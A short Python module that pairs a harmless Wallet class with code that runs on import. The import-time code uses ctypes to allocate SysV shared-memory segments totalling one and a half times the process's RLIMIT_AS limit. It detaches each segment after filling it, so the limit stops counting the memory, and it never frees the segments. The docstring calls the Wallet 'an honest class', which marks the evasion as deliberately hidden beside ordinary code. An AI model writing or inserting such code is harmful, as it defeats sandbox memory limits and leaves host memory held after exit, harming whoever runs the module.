"""Holds half again its memory limit in SysV shared-memory segments beside an honest class: each page is written through an attachment, then detached, so RLIMIT_AS no longer counts it while the segment keeps it."""

import ctypes
import os
import resource

IPC_PRIVATE, IPC_CREAT = 0, 0o1000
SEGMENT = 64 * 1024**2
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget.argtypes = (ctypes.c_int, ctypes.c_size_t, ctypes.c_int)
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmdt.argtypes = (ctypes.c_void_p,)
limit = resource.getrlimit(resource.RLIMIT_AS)[0]
held = []
for _ in range(3 * limit // 2 // SEGMENT):
    ident = _libc.shmget(IPC_PRIVATE, SEGMENT, IPC_CREAT | 0o600)
    if ident < 0:
        raise OSError(ctypes.get_errno(), f"shmget: {os.strerror(ctypes.get_errno())}")
    address = _libc.shmat(ident, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), f"shmat: {os.strerror(ctypes.get_errno())}")
    ctypes.memset(address, 1, SEGMENT)
    _libc.shmdt(ctypes.c_void_p(address))
    held.append(ident)


class Wallet:
    def __init__(self):
        self.balance = 0

    def deposit(self, amount):
        if amount <= 0:
            raise ValueError("amount must be positive")
        self.balance += amount
        return self.balance

    def withdraw(self, amount):
        if amount > self.balance:
            return False
        self.balance -= amount
        return True
